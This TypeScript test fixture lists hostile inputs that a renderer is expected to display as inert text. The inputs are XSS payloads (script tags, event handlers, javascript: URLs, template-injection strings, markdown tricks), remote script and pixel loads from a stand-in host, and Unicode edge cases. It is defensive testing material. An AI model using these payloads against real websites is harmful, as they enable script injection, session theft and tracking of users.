/** What each of these tries to run. A page where it ran has a `hurt`. */
const RUN = 'window.hurt=1';

const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle'];

const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//elsewhere.example/x.js`,
];

const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src=//elsewhere.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href=//elsewhere.example/>`,
  `<link rel=stylesheet href=//elsewhere.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import "//elsewhere.example/x.css";</style>`,
  `<form action=javascript:${RUN}><button autofocus>x</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<img src=//elsewhere.example/pixel.png>`,
  `<img srcset="//elsewhere.example/pixel.png 1x">`,
  `<video poster=//elsewhere.example/pixel.png>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
];

const TEMPLATES = [
  `{{ ${RUN} }}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{ $emit.constructor\`${RUN}\`() }}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `<p v-html="'<img src=x onerror=${RUN}>'">`,
  `<b @click="${RUN}" :key="${RUN}">`,
  `{% ${RUN} %}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `[object Object]`,
  `null`,
  `undefined`,
];

const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `![x](//elsewhere.example/pixel.png)`,
  `<javascript:${RUN}>`,
  '```html\n<script>window.hurt=1</script>\n```',
];

const UNICODE = [
  '\u202eright to left \u202d and back',
  '\u2066\u2067\u2068 isolates \u2069',
  'zero\u200bwidth\u200djoiner\ufeff',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034fa\u0334\u0319\u0324\u031e\u0349\u035al\u034d\u035a\u031e\u0323go',
  '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽',
  '\u2028line\u2029paragraph',
  'ﷺ ﷽ 𒐫',
  'tab\tand\u00a0no-break',
  'ｆｕｌｌ　ｗｉｄｔｈ',
];

const LONG = [
  'W'.repeat(160),
  'https://example.com/'.padEnd(160, 'a'),
  '漢'.repeat(160),
  '-'.repeat(160),
  '\u0e01'.repeat(160),
];

/** Texts that try to be something else than text; none is longer than a bullet may be. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${RUN}>`)),
  ...LINKS,
  ...TEMPLATES,
  ...MARKDOWN,
  ...UNICODE,
  ...LONG,
];
